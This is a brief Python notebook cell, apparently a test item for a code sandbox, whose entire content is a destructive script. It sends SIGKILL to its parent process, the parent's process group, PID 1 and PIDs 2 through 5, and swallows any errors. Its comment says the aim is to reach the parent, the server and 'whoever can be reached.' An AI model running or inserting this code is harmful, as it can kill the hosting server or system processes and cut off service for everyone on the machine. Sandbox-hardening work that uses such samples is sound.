# %% [markdown] right=["03_counter"] says="norm"
# Signals go to the parent, to the server and to whoever can be reached.

# %%
import os
import signal

for target in (os.getppid(), -os.getppid(), 1, 2, 3, 4, 5):
    if target not in (0, os.getpid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
